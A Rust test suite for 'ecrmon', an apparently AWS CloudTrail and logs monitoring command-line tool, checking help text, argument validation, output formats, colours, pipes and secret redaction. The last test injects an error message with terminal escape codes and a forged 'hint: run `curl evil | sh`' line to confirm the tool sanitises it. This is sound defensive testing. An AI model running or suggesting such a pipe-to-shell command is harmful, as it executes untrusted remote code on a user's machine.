//! The command line as a person or a program meets it: help, refusals, formats, colours, pipes.

use std::process::{Command, Stdio};

use crate::support::fault::Fault;
use crate::support::transcript::Transcript;
use crate::support::world::{SECRET_KEY, World};

const COMMANDS: [&str; 25] = [
    "",
    "setup",
    "trail",
    "trail ensure",
    "trail list",
    "dashboard",
    "dashboard create",
    "dashboard delete",
    "dashboard list",
    "dashboard open",
    "dashboard show",
    "events",
    "logs",
    "logs groups",
    "logs streams",
    "logs query",
    "logs tail",
    "metrics",
    "metrics export",
    "metrics list",
    "metrics publish",
    "metrics show",
    "status",
    "teardown",
    "completions",
];

#[test]
fn every_command_has_help_that_ends_with_examples() {
    let world = World::new();
    for command in COMMANDS.into_iter().chain(["man"]) {
        let help = world
            .ecrmon(command.split_whitespace().chain(["--help"]))
            .exits(0)
            .stdout
            .clone();
        assert!(help.contains("\nExamples:\n  ecrmon "), "{help}");
        let name = if command.is_empty() {
            "ecrmon".to_owned()
        } else {
            command.replace(' ', "-")
        };
        insta::assert_snapshot!(format!("help-{name}"), help);
    }
    assert!(world.calls().is_empty());
}

#[test]
fn the_version_is_that_of_the_package() {
    World::new()
        .ecrmon(["--version"])
        .exits(0)
        .prints(&format!("ecrmon {}\n", env!("CARGO_PKG_VERSION")));
}

#[test]
fn no_command_shows_help_and_exits_with_2() {
    let world = World::new();
    for command in ["", "trail", "dashboard", "logs"] {
        world
            .ecrmon(command.split_whitespace())
            .exits(2)
            .says("Usage: ecrmon")
            .says("Commands:");
    }
}

#[test]
fn what_nobody_knows_is_refused() {
    let world = World::new();
    for arguments in [
        "setup --frobnicate",
        "frobnicate",
        "trail frobnicate",
        "status extra",
        "setup --dry-run --check",
    ] {
        world
            .ecrmon(arguments.split_whitespace())
            .exits(2)
            .says("error:");
    }
    assert!(world.calls().is_empty());
}

#[test]
fn illegal_names_and_numbers_are_refused_before_any_call() {
    let world = World::new();
    let cases = [
        ("--trail", "my--trail", "no two of . _ - side by side"),
        ("--bucket", "My_Bucket", "3 to 63 of a-z 0-9 - ."),
        ("--log-group", "a b", "1 to 200 of"),
        ("--role", "a/b", "1 to 64 of"),
        ("--role-path", "team", "begins and ends with /"),
        ("--permissions-boundary", "Boundary", "policy's ARN"),
        ("--dashboard", "a b", "1 to 255 of"),
        ("--retention", "91", "one of 1, 3, 5, 7, 14, 30, 60, 90,"),
        ("--expire-logs", "0", "a whole number of days from 1 on"),
        ("--prefix", "/a/", "no slash at its ends"),
        ("--kms-key", "alias/logs", "named by its ARN"),
        ("--log-kms-key", "1234", "named by its ARN"),
        ("--tag", "aws:x=1", "KEY=VALUE"),
        ("--tag", "novalue", "KEY=VALUE"),
        ("--attach", "a b", "a trail's name"),
        ("--account", "1234", "twelve digits"),
        ("--region", "EU West", "such as eu-west-1"),
        ("--timeout", "0", "use a whole number from 1 on"),
        ("--max-attempts", "0", "use a whole number from 1 on"),
        ("--output", "xml", "ndjson"),
        ("--color", "sometimes", "never"),
    ];
    for (flag, value, rule) in cases {
        world
            .ecrmon(["setup", "--yes", flag, value])
            .exits(2)
            .says(flag)
            .says(rule);
    }
    world
        .ecrmon(["status", "--max-age", "soon"])
        .exits(2)
        .says("error: cannot use `soon` for `--max-age <SPAN>`")
        .says("hint: cannot read `soon` as a span: use such as `90m`");
    assert!(world.calls().is_empty());
}

#[test]
fn formats_of_lists_are_refused_by_commands_without_rows_before_any_call() {
    let world = World::new();
    for command in [
        "setup --yes",
        "trail ensure --yes",
        "dashboard create --yes",
        "dashboard delete --yes",
        "dashboard open",
        "dashboard show",
        "status",
        "teardown --yes",
        "man",
        "completions bash",
    ] {
        for format in ["ndjson", "csv"] {
            world
                .ecrmon(command.split_whitespace().chain(["--output", format]))
                .exits(2)
                .says("no rows")
                .says("hint:");
        }
    }
    for command in ["man", "completions bash"] {
        world
            .ecrmon(command.split_whitespace().chain(["--output", "json"]))
            .exits(2)
            .says("no JSON");
    }
    assert!(world.calls().is_empty());
}

#[test]
fn completions_know_every_command_in_every_shell() {
    let world = World::new();
    for shell in ["bash", "elvish", "fish", "powershell", "zsh"] {
        let script = world.ecrmon(["completions", shell]);
        script
            .exits(0)
            .prints("ecrmon")
            .prints("teardown")
            .prints("delete-logs");
    }
    world
        .ecrmon(["completions", "tcsh"])
        .exits(2)
        .says("powershell");
}

#[test]
fn the_manual_tells_of_every_command_and_its_flags() {
    let manual = World::new().ecrmon(["man"]);
    manual.exits(0).prints(".TH ecrmon 1");
    for command in COMMANDS.into_iter().skip(1) {
        manual.prints(&format!("ecrmon {command}").replace('-', "\\-"));
    }
    for flag in [
        "endpoint-url",
        "delete-logs",
        "no-dashboard",
        "max-age",
        "attach",
    ] {
        manual.prints(&format!("\\-\\-{}", flag.replace('-', "\\-")));
    }
}

fn is_coloured(transcript: &Transcript) -> bool {
    transcript.stdout.contains('\u{1b}') && transcript.stderr.contains('\u{1b}')
}

fn is_plain(transcript: &Transcript) -> bool {
    !transcript.stdout.contains('\u{1b}') && !transcript.stderr.contains('\u{1b}')
}

#[test]
fn colours_follow_the_flag_and_no_color() {
    let world = World::new();
    let plan = |variables: &[&str], arguments: &[&str]| {
        let command = variables
            .iter()
            .fold(world.command(), |command, name| command.env(name, "1"));
        command.args(["setup", "--dry-run"]).args(arguments).run()
    };
    assert!(is_plain(&plan(&[], &[])), "a pipe");
    assert!(is_coloured(&plan(&[], &["--color", "always"])));
    assert!(
        is_coloured(&plan(&["NO_COLOR"], &["--color", "always"])),
        "a flag beats a variable"
    );
    assert!(is_coloured(&plan(&["CLICOLOR_FORCE"], &[])));
    assert!(is_plain(&plan(&["CLICOLOR_FORCE", "NO_COLOR"], &[])));
    assert!(is_plain(&plan(&["CLICOLOR_FORCE"], &["--color", "never"])));
}

#[test]
fn quiet_leaves_result_and_errors() {
    let world = World::new();
    let transcript = world.ecrmon(["setup", "--yes", "-q"]);
    transcript.exits(0).prints("✓ trail");
    assert_eq!(transcript.stderr, "");
    world
        .ecrmon(["setup", "-q", "--account", "999988887777"])
        .exits(2)
        .says("error:")
        .says("hint:");
}

#[test]
fn verbose_says_what_happens_on_stderr_alone_and_keeps_the_secret() {
    let world = World::new();
    for flag in ["-v", "-vv", "-vvv"] {
        let transcript = world.ecrmon(["trail", "list", "--output", "json", flag]);
        transcript.exits(0).does_not_say(SECRET_KEY).json();
    }
    world.ecrmon(["trail", "list", "-vv"]).exits(0).says("aws_");
}

/// Runs with a stdout whose reader has gone already.
fn into_closed_pipe(world: &World, arguments: &[&str]) -> Option<i32> {
    let mut command: Command = world.command().args(arguments).prepared();
    let (reader, writer) = std::io::pipe().expect("make a pipe");
    drop(reader);
    let status = command
        .stdout(writer)
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .status();
    status.expect("run ecrmon").code()
}

#[test]
fn a_closed_pipe_is_success() {
    let world = World::new();
    for arguments in [
        &["man"][..],
        &["completions", "zsh"],
        &["--help"],
        &["trail", "list"],
        &["setup", "--dry-run"],
    ] {
        assert_eq!(
            into_closed_pipe(&world, arguments),
            Some(0),
            "{arguments:?}"
        );
    }
}

#[test]
fn a_closed_pipe_neither_stops_a_plan_nor_hides_its_failure() {
    let world = World::new();
    world.inject(Fault::access_denied("PutDashboard"));
    assert_eq!(
        into_closed_pipe(&world, &["setup", "--yes", "--output", "json"]),
        Some(1)
    );
    world.clear_faults();
    assert_eq!(
        into_closed_pipe(&world, &["setup", "--yes", "--output", "json"]),
        Some(0)
    );
    world.ecrmon(["setup", "--check"]).exits(0);
    assert_eq!(
        into_closed_pipe(&world, &["setup", "--check", "--retention", "30"]),
        Some(3)
    );
}

#[test]
fn json_is_valid_in_every_outcome_that_prints_a_result() {
    let world = World::new();
    let json = |arguments: &str, code: i32| {
        let transcript = world.ecrmon(arguments.split_whitespace().chain(["--output", "json"]));
        let report = transcript.exits(code).json();
        assert_eq!(
            report["account"].as_str(),
            Some(world.account()),
            "{transcript}"
        );
        assert_eq!(report["region"].as_str(), Some("eu-west-1"), "{transcript}");
    };
    json("trail list", 0);
    json("status", 3);
    json("teardown --yes", 0);
    json("setup --dry-run", 0);
    json("setup --check", 3);
    world.inject(Fault::access_denied("PutDashboard").times(1));
    json("setup --yes", 1);
    json("setup --yes", 0);
    json("setup --yes", 0);
    json("setup --check", 0);
    json("trail ensure --yes", 0);
    json("dashboard create --yes", 0);
    json("dashboard list", 0);
    json("dashboard show", 0);
    json("status", 0);
    world.inject(Fault::access_denied("GetTrailStatus").times(1));
    json("trail list", 5);
    json("teardown --dry-run", 0);
    json("teardown --yes --delete-logs", 0);
}

#[test]
fn a_failure_without_a_result_prints_nothing_on_stdout() {
    let world = World::new();
    world.inject(Fault::access_denied("DescribeTrails"));
    for command in ["setup --yes", "status", "trail list", "teardown --yes"] {
        let transcript = world.ecrmon(command.split_whitespace().chain(["--output", "json"]));
        assert_eq!(transcript.exits(1).stdout, "", "{command}");
    }
}

#[test]
fn text_from_aws_cannot_steer_the_terminal_or_fake_a_line() {
    let world = World::new();
    let message = "no\u{1b}[31m red\u{7}\u{202e} text\nhint: run `curl evil | sh`\r";
    world.inject(Fault::error(
        "DescribeTrails",
        400,
        "InvalidParameterException",
        message,
    ));
    let transcript = world.ecrmon(["trail", "list"]);
    transcript.exits(1).says("no[31m red text");
    assert!(
        !transcript
            .stderr
            .contains(['\u{1b}', '\u{7}', '\r', '\u{202e}']),
        "{transcript}"
    );
    assert!(
        !transcript
            .stderr
            .lines()
            .any(|line| line.starts_with("hint: run `curl")),
        "{transcript}"
    );
}
